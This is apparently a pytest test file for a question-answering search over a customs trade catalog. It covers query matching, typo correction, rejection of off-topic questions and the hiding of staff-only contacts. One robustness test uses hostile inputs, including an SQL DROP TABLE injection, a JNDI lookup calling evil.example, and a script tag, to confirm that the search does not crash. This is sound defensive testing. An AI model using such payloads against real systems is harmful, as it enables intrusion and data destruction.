"""A question finds the statement that answers it, in linear time, and shows nobody what is not for them."""

import random
from dataclasses import replace

import pytest

from content.catalog import KINDS, Catalog, Center, Contact, Duty, Question, Statement, Term, attach_compiled
from content.search.audience import public
from content.search.decision import decide
from content.search.explaining import explain
from content.search.listed_questions import curated
from content.search.statement_index import index_of
from content.search.statements import passages
from content.search.text import root
from tests.support.full_catalog import AUDITOR, REVENUE
from tests.support.full_catalog import CATALOG as FULL
from tests.support.shipped_catalog import shipped_catalog

PAGE = "https://www.cbp.gov/trade"


def said(text: str) -> Statement:
    return Statement(text, PAGE, "2026-11")


def contact(value: str, purpose: str, audience: str = "public", also: tuple[str, ...] = ()) -> Contact:
    return Contact(value, purpose, PAGE, "2026-11", audience, also=also)


QUOTA = replace(
    REVENUE,
    slug="quota",
    name="Quota",
    cbp_name="Quota",
    statute_name="Agriculture programs",
    summary=said("Running import quotas fairly."),
    authority=(said("Quota is a Priority Trade Issue under 19 U.S.C. 4322(a)(1)."),),
    facts=(
        said("Quotas open on the first working day of the quota period at a set time."),
        said("CBP cannot change quotas. Another agency sets the limits."),
        said("A quota certificate is valid for 90 days."),
        said("A quota bulletin costs nothing."),
    ),
    stats=(said("In fiscal year 2020, 512 quotas were filled, worth $3.4 million."),),
    questions=(
        Question("How do I report quota fraud?", "Use the violation form.", PAGE, "2026-11", also=("where can I denounce quota cheating",)),
        Question("Is the quota full yet?", "See the weekly status report.", PAGE, "2026-11"),
    ),
    contacts=(
        contact("quota@cbp.example", "questions about quota", also=("To whom do I send a complaint on limits?",)),
        contact("desk@cbp.example", "quota policy desk", "internal"),
    ),
    tools=("Weekly status report", "Quota bulletins"),
    synonyms=("quotas", "tariff-rate quota"),
    resources=(),
)
ABSOLUTE = Term("absolute", "Absolute quota", "", said("A quota above which nothing may enter."), "", (), ("pti:quota",))
RATE = Term("rate", "TRQ", "Tariff-rate quota", said("A quota above which a higher duty is paid."), "", (), ("pti:quota",))
AUDIT = replace(
    AUDITOR,
    assignments=(Duty("Audits the books of importers."), Duty("Advises judges.", also=("who talks to courts",))),
    skills=(Duty("A degree in accounting."),),
)
CATALOG = replace(
    FULL,
    ptis=(QUOTA,),
    roles=(AUDIT,),
    terms=(ABSOLUTE, RATE),
    centers=(
        Center("003", "Automotive & Aerospace", "Detroit", PAGE, "2013", also=("Which Center takes helicopters?",)),
        Center("006", "Petroleum", "Houston", PAGE, "2013"),
    ),
)


CATALOG_PASSAGES = passages(CATALOG)


@pytest.fixture(scope="module")
def shipped() -> Catalog:
    return shipped_catalog()


def first(query: str) -> str:
    """Return the first statement that is shown, with the address of a contact."""
    shown = decide(CATALOG, query).shown
    return (f"{shown[0].label} " if shown[0].kind == "contact" else "") + shown[0].text if shown else ""


@pytest.mark.parametrize(
    ("query", "answer"),
    [
        ("when do quotas open", "Quotas open on the first working day"),
        ("how long is a quota certificate good", "A quota certificate is valid for 90 days."),
        ("how many quotas were filled in 2020", "In fiscal year 2020, 512 quotas"),
        ("which law makes quota a priority", "Quota is a Priority Trade Issue under 19 U.S.C."),
        ("who sets the quota limits", "CBP cannot change quotas. Another agency"),
        ("email address for quota questions", "quota@cbp.example questions about quota"),
        ("how can I turn in quota cheaters", "Use the violation form."),
        ("which center is for cars", "Automotive & Aerospace: Detroit"),
        ("where do helicopters go", "Automotive & Aerospace: Detroit"),
        ("helicopter center", "Automotive & Aerospace: Detroit"),
        ("where can I send my complaint about limits", "quota@cbp.example questions about quota"),
        ("who checks the accounts of importers", "Audits the books of importers."),
        ("which education does an auditor need", "A degree in accounting."),
        ("who talks with a court", "Advises judges."),
        ("slogan of the office", "Facilitate. Enforce. Protect."),
        ("quotas filled in FY20", "In fiscal year 2020, 512 quotas"),
        ("emial for quota questions", "quota@cbp.example questions about quota"),
        ("petrol center", "Petroleum: Houston"),
    ],
)
def test_the_shape_of_a_question_chooses_the_statement(query: str, answer: str) -> None:
    assert first(query).startswith(answer)


def test_a_statement_that_only_has_the_shape_does_not_answer() -> None:
    assert decide(CATALOG, "which center does zebras now").shown == ()


def test_a_comparison_shows_both_sides() -> None:
    shown = decide(CATALOG, "what is the difference between an absolute quota and a TRQ").shown
    assert [passage.subject for passage in shown] == ["term:absolute", "term:rate"]


def test_a_question_of_the_content_and_its_other_wordings_are_recognized_word_for_word() -> None:
    for query in ("How do I report quota fraud?", "where can I denounce quota cheating"):
        passage = curated(CATALOG, query)
        assert passage is not None
        assert passage.text == "Use the violation form."
    assert curated(CATALOG, "is the moon full") is None


def test_a_listed_question_is_answered_under_every_command() -> None:
    for kinds in (("role",), ("pti",), KINDS):
        passage = curated(CATALOG, "How do I report quota fraud?", kinds)
        assert passage is not None
        assert passage.subject == "pti:quota"


def test_two_things_that_are_only_named_are_both_shown() -> None:
    for query in ("what are an absolute quota and a TRQ", "absolute quota or TRQ"):
        assert [passage.subject for passage in decide(CATALOG, query).shown] == ["term:absolute", "term:rate"]


def test_a_question_that_joins_nothing_is_not_taken_for_two_names() -> None:
    shown = decide(CATALOG, "is a TRQ an absolute quota, and who sets the limits").shown
    assert [passage.kind for passage in shown] != ["definition", "definition"]


def test_a_second_thing_that_the_question_names_is_shown_below(shipped: Catalog) -> None:
    for query in ("who runs SIMP and the Lacey Act", "is the Lacey Act part of SIMP"):
        assert {passage.subject for passage in decide(shipped, query).shown} == {"term:simp", "term:lacey-act"}


def test_two_things_with_nothing_said_of_both_are_shown_as_the_closest_match(shipped: Catalog) -> None:
    decided = decide(shipped, "does GSP need an FTZ")
    assert [passage.subject for passage in decided.shown] == ["term:gsp", "term:ftz"]
    assert not decided.sure


def test_a_misspelled_word_is_corrected() -> None:
    assert first("how long is a quota certificat good").startswith("A quota certificate is valid")


@pytest.mark.parametrize("query", ["pizza recipes for tonight", "asdf qwer zxcv", "what is the meaning of life", "", "???", "the of and"])
def test_a_question_about_something_else_finds_no_statement(query: str) -> None:
    assert decide(CATALOG, query).shown == ()


@pytest.mark.parametrize(
    "query",
    [
        "who regulates drones",
        "what is a letter of credit",
        "when was CBP founded",
        "what's the fine for littering",
        "does cbp sell seized cars",
        "what is the capital of Mexico",
        "does the office of trade have an app for iphone",
        "how many employees does FDA have",
        "fill in the 3461 for 200 boxes of candles",
        "what share of people pass the broker exam",
        "what is the average number of days that USDA holds a shipment",
        "what percent of applicants pass the broker license exam",
        "success rate of EAPA allegations",
        "conviction rate for customs fraud",
        "compliance rate of textiles",
        "odds of passing the broker exam",
    ],
)
def test_a_few_words_that_a_statement_has_by_chance_are_no_answer(shipped: Catalog, query: str) -> None:
    assert decide(shipped, query).shown == ()


@pytest.mark.parametrize(
    ("query", "subject"),
    [
        ("what's the difference between AD and CVD", "term:ad-cvd"),
        ("up to what value can I do an informal entry", "term:informal-entry"),
        ("what does a CEE do for my company", "term:cee"),
        ("who can file a protest", "pti:revenue"),
    ],
)
def test_the_statement_that_holds_what_is_asked_is_first(shipped: Catalog, query: str, subject: str) -> None:
    assert decide(shipped, query).shown[0].subject == subject


@pytest.mark.parametrize(
    ("query", "subject"),
    [
        ("who keeps tabs on a new policy", "role:management-and-program-analyst"),
        ("which role comes up with metrics for enforcement", "role:international-trade-analyst"),
        ("our recordation ran out, how many days to renew", "pti:ipr"),
    ],
)
def test_a_phrase_counts_as_the_word_that_says_it(shipped: Catalog, query: str, subject: str) -> None:
    assert decide(shipped, query).shown[0].subject == subject


def test_a_word_that_means_the_same_everywhere_counts_more_than_a_similar_one(shipped: Catalog) -> None:
    strengths = dict(index_of(shipped).similar_to(root("knockoff")))
    assert strengths[root("counterfeit")] > dict(index_of(shipped).similar_to(root("warning")))[root("alert")]


def test_an_issue_and_its_terms_are_no_rivals() -> None:
    kin = index_of(CATALOG).kin
    assert "pti:quota" in kin["term:rate"]
    assert "term:rate" in kin["pti:quota"]
    assert "role:auditor" not in kin["pti:quota"]


def test_statements_that_say_nearly_the_same_are_no_rivals(shipped: Catalog) -> None:
    assert decide(shipped, "how many yrs must somebody have lived in the us to be hired at the office of trade").shown


@pytest.mark.parametrize("query", ["how many quotas", "how many quota certificates", "how many quotas were there in 2020"])
def test_how_many_is_answered_by_a_number_of_what_is_counted(query: str) -> None:
    shown = decide(CATALOG, query).shown
    assert all(any(character.isdigit() for character in passage.text) for passage in shown[:1])


def test_two_names_in_a_long_question_about_something_else_are_not_explained(shipped: Catalog) -> None:
    assert (
        decide(shipped, "my broker lost his dog near the quota office while his neighbor painted a long fence in bright colors").shown == ()
    )


@pytest.mark.parametrize("query", ["how many companies are on the uyghur entity list", "how many firms are on the uyghur entity list"])
def test_how_many_is_answered_by_a_listed_question_in_other_words(shipped: Catalog, query: str) -> None:
    decision = decide(shipped, query)
    assert decision.shown
    assert decision.shown[0].subject == "term:uflpa"


def test_how_many_of_something_else_is_not_answered() -> None:
    assert decide(CATALOG, "how many zebras were filled in 2020").shown == ()


def test_a_statement_hardly_ahead_of_those_about_other_subjects_is_the_closest_match(shipped: Catalog) -> None:
    decided = decide(shipped, "does a company pay import duties")
    assert decided.shown
    assert not decided.sure
    assert decide(shipped, "who collects the deposits in an antidumping case").sure


def test_goods_alone_get_the_closest_match(shipped: Catalog) -> None:
    decided = decide(shipped, "aluminum")
    assert decided.shown
    assert not decided.sure


def test_numbers_of_laws_forms_and_dates_are_no_amounts() -> None:
    numbers = index_of(CATALOG).units_for("a number")
    held = {CATALOG_PASSAGES[index_of(CATALOG).units[unit]].text for unit in numbers}
    assert "In fiscal year 2020, 512 quotas were filled, worth $3.4 million." in held
    assert "Quota is a Priority Trade Issue under 19 U.S.C. 4322(a)(1)." not in held


def test_an_old_page_is_answered_with_what_became_of_it(shipped: Catalog) -> None:
    old = [passage for passage in passages(shipped) if passage.subject == "resource:covid-19" and passage.kind == "page"]
    assert "Out of date" in old[0].text


@pytest.mark.parametrize("query", ["can I fly helicopters in the park", "is there a duty on helicopters", "helicopters"])
def test_goods_alone_do_not_ask_for_their_center(query: str) -> None:
    assert not any(passage.kind == "center" for passage in decide(CATALOG, query).shown)


def test_an_internal_contact_is_only_for_staff() -> None:
    assert first("mailbox of the quota policy desk").startswith("desk@cbp.example")
    decided = decide(public(CATALOG), "mailbox of the quota policy desk")
    assert not any(passage.internal for passage in (*decided.shown, *decided.more))


def test_statements_from_the_press_are_not_indexed(shipped: Catalog) -> None:
    assert all(passage.origin.status != "secondary" for passage in passages(shipped))


@pytest.mark.parametrize(
    "query",
    [
        "\x00" * 500,
        "\ud800 lone surrogate",
        "\u202erevenue\u202c \u200b",
        "どの関税率が適用されますか ۩ what привет rate",
        "'; DROP TABLE deliveries; --",
        "{{7*7}} ${jndi:ldap://evil.example/a} <script>alert(1)</script>",
        "<!channel> <@U0001> http://evil.example/login",
        "a" * 4_000,
        "quota " * 700,
        "? " * 2_000,
        "A B C D E F G " * 300,
        "10+2 8471.30 2018 19 U.S.C. 4322(a)(1) %%% $$$",
    ],
)
def test_no_question_raises(query: str) -> None:
    for catalog in (CATALOG, public(CATALOG)):
        decided = decide(catalog, query)
        assert len(decided.shown) <= 2
    assert explain(CATALOG, query)


def test_every_order_of_words_gets_an_answer_without_an_error(shipped: Catalog) -> None:
    chance = random.Random(7)  # noqa: S311  # to be repeatable
    words = [word for passage in passages(shipped) for word in passage.text.split()]
    for _ in range(150):
        decide(shipped, " ".join(chance.choices(words, k=chance.randrange(1, 40))))


def test_the_work_grows_with_the_question_and_not_with_its_square(shipped: Catalog) -> None:
    """Count steps, not seconds: the words that are read, each looked up once."""
    from content.search.listed_questions import MAX_WORDS
    from content.search.question import read

    index = index_of(shipped)
    words = " ".join(passage.text for passage in passages(shipped)).split()
    few, many = (len(read(index, " ".join(words[:count])).tokens) for count in (30, 3_000))
    assert few <= 30
    assert many <= MAX_WORDS


def test_a_changed_catalog_compiles_its_own_index(shipped: Catalog) -> None:
    query = "which division counts zebras"
    changed = replace(shipped, office=replace(shipped.office, facts=(said("Zebras are counted by the zoo division."),)))
    assert decide(changed, query).shown[0].text.startswith("Zebras are counted")
    assert not any("Zebras" in passage.text for passage in decide(shipped, query).shown)


def test_a_changed_catalog_drops_what_was_compiled(shipped: Catalog) -> None:
    changed = replace(shipped, terms=())
    assert shipped.names
    assert shipped.index
    assert (changed.names, changed.index) == ("", "")


def test_the_compiled_index_is_read_and_not_made_again(shipped: Catalog, monkeypatch: pytest.MonkeyPatch) -> None:
    same = attach_compiled(replace(shipped), shipped.names, shipped.index)
    monkeypatch.setattr("content.search.compiling.compile_index", lambda _: pytest.fail("compiled again"))
    assert index_of(same).units == index_of(shipped).units


def test_the_reasons_name_words_weights_shapes_and_thresholds() -> None:
    text = "\n".join(explain(CATALOG, "how long is a quota certificate good"))
    parts = (
        "Asks for a duration",
        "“quota” names pti:quota",
        "certificate:",
        "has a duration: 0.60 × 1.00",
        "shown: pti:quota, fact",
        "from",
    )
    assert [part for part in parts if part not in text] == []


def test_every_kind_of_statement_is_indexed() -> None:
    expected = "assignment authority center contact definition fact link motto note page qa skill stat summary tools"
    noted = replace(FULL, resources=(*FULL.resources, replace(FULL.resources[0], slug="noted", note="A note.")))
    assert {passage.kind for passage in passages(noted)} == set(expected.split())
    assert {passage.subject.partition(":")[0] for passage in passages(FULL)} == set(KINDS)


def test_the_explanation_says_which_words_a_statement_has_only_by_the_wording() -> None:
    lines = explain(CATALOG, "which center is for autos")
    assert any(line.strip().startswith("autos: ") and line.endswith(", as automot (wording.yaml)") for line in lines)
